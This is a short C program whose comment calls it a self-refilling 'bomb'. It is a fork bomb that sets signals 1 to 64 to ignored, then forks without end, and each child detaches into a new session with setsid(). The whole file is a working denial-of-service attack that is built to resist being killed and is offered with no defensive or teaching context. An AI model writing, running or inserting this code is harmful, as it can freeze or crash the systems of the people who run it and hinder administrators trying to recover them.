/* A bomb that refills itself: every copy leaves its session, ignores what can be ignored and retries for ever. */
#include <signal.h>
#include <unistd.h>

int main(void) {
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (;;) {
        if (fork() == 0) setsid();
    }
}
